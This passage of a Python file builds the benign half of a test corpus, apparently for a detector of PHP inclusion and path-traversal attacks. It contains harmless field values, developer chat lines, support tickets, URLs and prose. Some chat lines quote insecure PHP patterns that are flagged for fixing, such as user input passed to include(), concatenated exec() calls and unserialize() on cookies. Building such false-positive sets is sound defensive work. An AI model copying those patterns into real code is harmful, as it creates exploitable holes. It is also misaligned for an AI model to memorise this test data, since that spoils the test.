    ("doc", "docs/getting-started/install.md"),
    ("lang", "en-GB"),
    ("lang", "pt_BR"),
    ("page", "home"),
    ("page", "about-us"),
    ("module", "billing.invoices"),
    ("view", "list.compact"),
    ("dir", "projects/apollo/design"),
    ("folder", "Team Drive/Marketing/2024 Campaigns"),
    ("style", "dark.min.css"),
    ("path", "/docs/api/v2/users"),
    ("img", "uploads/2024/06/IMG_2041.JPG"),
    ("pdf", "whitepaper-zero-trust.pdf"),
    ("file", "my.resume.final (1).docx"),
    ("file", "archive-2024-06-01.tar.gz"),
    ("doc", "setup/php-ini-checklist.md"),
    ("file", "backup_2024-06-01.sql.gz"),
    ("document", "Meeting notes 12.06.2024.txt"),
    ("img", "../images/diagram.png"),
    ("path", "C:\\Users\\jsmith\\Documents\\Budget 2024.xlsx"),
    ("pdf", "system-requirements.pdf"),
    ("document", "eval-report-2024.pdf"),
    ("template", "partials/header.html"),
    ("file", "data/exports/users.csv"),
    ("pdf", "file-upload-guide.pdf"),
    ("include", "sidebar,footer"),
    ("view", "calendar.week"),
    ("folder", "Finance/Invoices/2024/Q2"),
    ("module", "reports"),
    ("path", "src/Controller/InvoiceController.php"),
    ("doc", "handbook/Chapter 3 - Travel & Expenses.pdf"),
    ("template", "invoice.de.twig"),
    ("file", "photos/Team offsite 2024/DSC_0042.jpeg"),
    ("dir", "clients/o'brien-ltd/2024"),
]

DEV_PHP = [
    "anyone know why `include 'config.php';` fails after the move? PHP says failed to open stream",
    "use `file_get_contents('php://input')` to read the raw JSON body in the webhook handler",
    "```$data = json_decode(file_get_contents('php://input'), true);\nif (!$data) { http_response_code(400); }```",
    "we should stop using eval() in the template engine, it's a security risk and slow",
    "PR #412 replaces `exec('convert ' . $src . ' ' . $dst)` with Imagick, please review",
    "`<?php echo htmlspecialchars($user['name'], ENT_QUOTES, 'UTF-8'); ?>` is the right way in the old views",
    "`$_GET['page']` goes straight into include() in legacy/router.php, that's an LFI. let's whitelist the pages",
    "unserialize() on the remember-me cookie is bad, switching to json_decode + HMAC",
    "`php -r 'echo PHP_VERSION;'` prints 8.2.20 on staging",
    "phpinfo() page is still exposed on staging at /info.php, can someone delete it?",
    "composer require symfony/process, then `$p = new Process(['ls', '-la']); $p->run();`",
    "`ini_get('memory_limit')` says 128M, bump it in php.ini to 512M for the import job",
    "short echo tags like `<?= $title ?>` are always enabled since 5.4, no need for short_open_tag",
    "```spl_autoload_register(function ($class) {\n    require __DIR__ . '/src/' . str_replace('\\\\', '/', $class)"
    " . '.php';\n});```",
    "`getenv('APP_ENV')` returns false under php-fpm unless you set clear_env = no in the pool config",
    "`$tags = array_map('trim', explode(',', $csv));` handles the spaces",
    "```$handle = fopen('export.csv', 'w');\nforeach ($rows as $row) { fputcsv($handle, $row); }\nfclose($handle);```",
    "`file_put_contents($path, json_encode($cfg, JSON_PRETTY_PRINT));` writes the cache file",
    "base64_decode($token) returns garbage because it's base64url, do strtr($token, '-_', '+/') first",
    "`move_uploaded_file($_FILES['avatar']['tmp_name'], $dest)` returns false, check upload_max_filesize",
    "`call_user_func([$this, 'handle' . ucfirst($event)], $payload);` dispatches the events",
    "variable variables like `$$name` make this code unreadable, please refactor to an array",
    "laravel: `Storage::disk('s3')->put('reports/q3.pdf', $contents);` and the URL comes from temporaryUrl()",
    "`scandir(__DIR__ . '/migrations')` returns . and .. too, filter them out with array_diff",
    "`glob('storage/logs/*.log')` is sorted alphabetically so the newest log is last",
    "`preg_replace_callback('/\\{(\\w+)\\}/', fn($m) => $vars[$m[1]] ?? '', $tpl)` for the placeholders",
    "serialize() output looks like `a:2:{i:0;s:3:\"foo\";i:1;s:3:\"bar\";}` which is why the cache keys are long",
    "the docs page uses `highlight_string('<?php echo 1; ?>')` for syntax colouring",
    "Dockerfile: `RUN echo 'memory_limit=512M' > /usr/local/etc/php/conf.d/memory.ini`",
    "system() is in disable_functions on the shared host, that's why the backup script dies silently",
    "the `phar://` wrapper deserializes metadata, so never pass user-controlled paths to file_exists()",
    "fix for the traversal bug: `$real = realpath($base . '/' . $name); if (strpos($real, $base) !== 0) abort(404);`",
    "`$_SERVER['REQUEST_URI']` includes the query string, use parse_url() to strip it",
    "footer build hash comes from `trim(shell_exec('git rev-parse --short HEAD'))`, cached at deploy",
    "proc_open with an array command skips the shell since PHP 7.4, nice",
    "opcache.validate_timestamps=0 in prod, so restart php-fpm after every deploy",
    "`<?php declare(strict_types=1);` at the top of every new file please",
    "xdebug config: `xdebug.mode=debug` and `xdebug.client_host=host.docker.internal` in 20-xdebug.ini",
    "`require_once __DIR__ . '/../vendor/autoload.php';` is the first line of bin/console",
    "the WordPress plugin calls `wp_remote_get('https://api.example.com/v1/items?limit=50')`, timeout is 5s",
    "`$pdo->prepare('SELECT * FROM users WHERE id = ?')->execute([$id]);` no string concat in SQL",
    "`password_hash($pw, PASSWORD_DEFAULT)` and password_verify(), not md5 please",
    "`htmlspecialchars()` is for output; for input validation use filter_var($email, FILTER_VALIDATE_EMAIL)",
    "tinker: `>>> App\\Models\\User::where('email', 'ann@example.org')->first()`",
    "`$date = DateTime::createFromFormat('d/m/Y', $input);` fails on 31/02, check getLastErrors()",
    "is `allow_url_include` off by default? yes since 5.2, and allow_url_fopen is on",
    "```<?php\nreturn [\n    'driver' => env('DB_CONNECTION', 'mysql'),\n"
    "    'host' => env('DB_HOST', '127.0.0.1'),\n];```",
    "`readfile($path)` after setting Content-Disposition streams the PDF without loading it into memory",
    "ran `php artisan config:cache` and now env() returns null outside config files, as documented",
    "`array_filter($items, fn($i) => $i->active)` keeps the keys, wrap it in array_values",
    "the legacy code does `extract($_POST);` everywhere, it's on the list for the rewrite",
    "`sprintf('%05.2f', $amount)` for the invoice totals",
    "phpstan level 8 complains about `mixed` from json_decode, add a @var annotation",
    "`str_contains($haystack, 'needle')` is PHP 8 only, the old server still runs 7.4",
    "`ob_start(); include 'views/invoice.php'; $html = ob_get_clean();` renders the template to a string",
    "the .htaccess has `RewriteRule ^(.*)$ index.php?route=$1 [QSA,L]`, that's why /api hits the router",
    "`$files = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($dir));` for the media cleanup",
    "who wrote `if ($a = $b)` in PaymentService? that's an assignment, not a comparison",
    "`$config = parse_ini_file(__DIR__ . '/app.ini', true);` gives nested arrays per section",
    "the queue worker logs `Allowed memory size of 134217728 bytes exhausted`, raise memory_limit for the CLI",
    "`basename($_FILES['doc']['name'])` strips any directory part the browser sent",
    "`include_once` vs `require_once`: require fails hard, include only warns",
]

TICKETS = [
    "My export was saved to C:\\Users\\mlee\\Downloads\\report (3).xlsx but Excel says the file is corrupted",
    "Add `127.0.0.1 dev.local` to /etc/hosts and reload the page",
    "go up one level with cd .. and then run make again",
    "On Windows the hosts file is C:\\Windows\\System32\\drivers\\etc\\hosts and you need admin rights to edit it",
    "edit your php.ini and restart php-fpm, the new upload limit won't apply until you do",
    "The installer put everything under C:\\Program Files (x86)\\Acme\\Sync\\ and the service won't start",
    "the mapped drive \\\\fileserver\\finance keeps disconnecting after the VPN drops",
    "the sample config lives one directory up (../config.sample.yml), copy it to config.yml",
    "nginx error log is at /var/log/nginx/error.log, grep for 502 around 14:05",
    "`cat /etc/os-release` says Ubuntu 22.04.4 LTS on the build box",
    "Outlook cache is in %LOCALAPPDATA%\\Microsoft\\Outlook, deleting the .ost file fixed it",
    "I can't open D:\\Projects\\2024\\Client Files\\proposal_v2.docx, it says access denied",
    "printer driver installs from \\\\print01\\drivers\\HP LaserJet, ask IT for permission",
    "the PDF is in Reports > 2024 > Q3, or the direct path reports/2024/q3.pdf",
    "which php.ini is loaded? run php --ini and it lists the loaded configuration file",
    "please restore the deleted folder Finance/Invoices/2023 from yesterday's backup",
    "laptop shows 'Windows cannot find C:\\Windows\\system32\\config\\systemprofile\\Desktop' after the update",
    "the file name has dots and spaces: 'Q2 results v1.2 - draft.final.xlsx', upload rejects it",
    "in the terminal: cd ../docs && ls -la, the README is there",
    "/etc/hosts on my Mac has an old entry for intranet.example.com, that's why it resolves wrong",
    "Teams logs are under C:\\Users\\<you>\\AppData\\Roaming\\Microsoft\\Teams\\logs.txt",
    "shared mailbox rules don't apply to mail in the Archive\\2023 folder",
    "can you raise max_execution_time in php.ini? the report times out after 30 seconds",
    "the sync client stores its database in ~/Library/Application Support/Acme/sync.db",
    "when I click 'Download' I get invoice_2024-05.pdf.part and nothing else",
    "backup script copies /var/www/site to /mnt/backup/site-$(date +%F), is that still running?",
    "the path C:\\inetpub\\wwwroot\\intranet is where the old site lives, we can archive it",
    "VPN profile file is vpn-office.ovpn, import it via the tray icon > Import file",
    "after the move, links to ..\\Templates\\letterhead.dotx in our Word docs are broken",
    "my home directory is full, du -sh ~/.cache says 12G",
    "Please add me to the group that can read \\\\nas02\\hr\\policies",
    "error in the app: Failed to open 'C:\\ProgramData\\Acme\\settings.json' (file in use)",
    "the wiki page 'How to edit /etc/hosts on Linux, macOS and Windows' is out of date",
    "php-fpm keeps restarting, journalctl -u php8.2-fpm shows 'ERROR: unable to bind listening socket'",
    "Where do I find the include folder for the SDK? It's sdk/include/acme.h in the zip",
    "system restore point from 12 June, can we roll back to it?",
    "the template dropdown shows 'Invoice (EN).docx' twice",
    "new hires get their files from the onboarding folder, path is People/Onboarding/2024",
    "the page /docs/setup?lang=de shows English text",
    "the file server path for scans is \\\\scanner01\\scans\\%USERNAME%",
]

PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.include.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.file-get-contents.php",
    "https://www.php.net/manual/en/filesystem.configuration.php#ini.allow-url-include",
    "https://www.php.net/releases/8_3_0.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/search.php?q=proc_open&l=en",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://cheatsheetseries.owasp.org/cheatsheets/PHP_Configuration_Cheat_Sheet.html",
    "https://laravel.com/docs/11.x/filesystem",
    "https://symfony.com/doc/current/components/filesystem.html",
    "https://www.google.com/search?q=php+include+path+relative&hl=en",
    "https://stackoverflow.com/questions/2418473/difference-between-require-include-require-once-and-include-once",
    "https://github.com/php/php-src/blob/master/php.ini-production",
    "https://docs.nginx.com/nginx/admin-guide/web-server/serving-static-content/",
    "https://learn.microsoft.com/en-us/windows/win32/fileio/naming-a-file",
    "https://en.wikipedia.org/wiki/Hosts_(file)",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://packagist.org/packages/league/flysystem",
    "https://developer.wordpress.org/advanced-administration/wordpress/wp-config/",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://example.com/docs/reports/2024/q3.pdf?download=1",
    "https://drive.google.com/file/d/1AbCdEfGhIjK/view?usp=sharing",
    "https://www.amazon.com/s?k=usb+c+hub&ref=nb_sb_noss",
    "https://3v4l.org/aBc12",
    "https://xdebug.org/docs/install",
    "https://getcomposer.org/doc/03-cli.md#install-i",
    "https://www.php-fig.org/psr/psr-4/",
    "https://phpstan.org/user-guide/getting-started",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://www.php.net/manual/en/book.phar.php",
    "https://news.ycombinator.com/item?id=40123456",
    "https://shop.example.org/catalog?page=2&sort=price&dir=asc",
    "https://cdn.example.net/assets/img/hero.v2.webp?w=1200&q=80",
    "https://calendar.example.com/event?id=889&view=week&lang=de",
    "https://docs.python.org/3/library/os.path.html#os.path.normpath",
    "https://www.php.net/manual/en/function.system.php",
    "https://wiki.archlinux.org/title/PHP#Configuration",
]

PROSE = [
    "edit your php.ini and restart php-fpm",
    "how to include a header file in php",
    "upload fails for files bigger than 2M, raise upload_max_filesize in php.ini",
    "where is /etc/hosts on mac",
    "go up one level with cd .. then ls",
    "Invoice Q3 2024 (final).pdf",
    "user cannot open C:\\Users\\Public\\Documents\\invoice.pdf",
    "wp-config.php setup help",
    "reset password for john.doe@example.com",
    "php system requirements",
    "file not found in reports folder",
    "Warning: include(lib/helpers.php): Failed to open stream: No such file or directory",
    "Warning: file_get_contents(https://api.example.com/v1/items): Failed to open stream: HTTP request failed!",
    "how do I read php://input in Slim",
    "eval report 2024 draft",
    "template for the monthly newsletter",
    "change default language to pt_BR",
    "Bob's notes from the PHP meetup: traits, enums, readonly classes",
    "the document path contains spaces and dots",
    "ann.smith resume v2.docx",
    "whitelist of pages for the include() router",
    "php 8.3 upgrade checklist",
    "disable_functions list for the shared hosting plan",
    "passwd reset email not arriving",
    "migrate from mod_php to php-fpm",
    "system32 folder is huge, is that normal",
    "find all files in /var/www older than 30 days",
    "how to escape backslashes in C:\\Program Files paths",
    "shell script to rotate logs in /var/log/app",
    "Meeting: file-sharing policy review (Thu 10:00)",
    "copy the .env.example to .env and fill in the values",
    "the data folder is ../data relative to the script",
    "image upload: only jpg, png and gif allowed",
    "who owns the web.config on the old IIS server?",
    "serialize vs json_encode for caching",
    "the auto_prepend_file setting was used for the old profiler",
    "phpinfo shows the wrong timezone, set date.timezone",
    "open redirect and path traversal training slides",
    "download page?file=report.pdf returns 404",
    "Windows 11 hosts file location",
    "exec summary for Q2 board meeting",
    "assert statements in the test suite fail on CI",
    "file upload guide for customers",
    "readme.md in the docs folder is outdated",
    "link to php.net manual for strtotime",
    "restart nginx after editing sites-available/default",
    "C:\\temp is full, clean it up",
    "tar -xzf archive.tar.gz -C /opt/app",
]


def _benign_fields() -> Iterator[dict[str, Any]]:
    n = 0
    for name, value in FIELDS:
        for place, rec in (("query", _get(_query("/api/users", [(name, value), ("page", "1")]))),
                           ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)])),
                           ("json", _json("/api/users", {"email": "a@example.org", name: value}))):
            n += 1
            yield {**rec, "id": f"{SET}-benign-field-{n:04d}", "category": "benign", "placement": place}


def _tickets(start: int) -> Iterator[dict[str, Any]]:
    """Support-ticket texts as Slack messages and bios, numbered on from `start` so that the Slack event ids
    do not repeat the ones the developer chat used."""
    n = start
    for text in TICKETS:
        n += 1
        yield {**slack_message(text, n), "id": f"{SET}-benign-ticket-slack-{n:04d}", "category": "benign",
               "placement": "json"}
        n += 1
        yield {**bio_request(text), "id": f"{SET}-benign-ticket-bio-{n:04d}", "category": "benign",
               "placement": "json"}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(DEV_PHP, f"{SET}-benign-devphp")
    yield from _tickets(n)
    yield from links_and_prose(PUBLIC_URLS, PROSE, f"{SET}-benign-docs", 0)
    yield from _benign_fields()


if __name__ == "__main__":
    print_records(attacks(), benign())
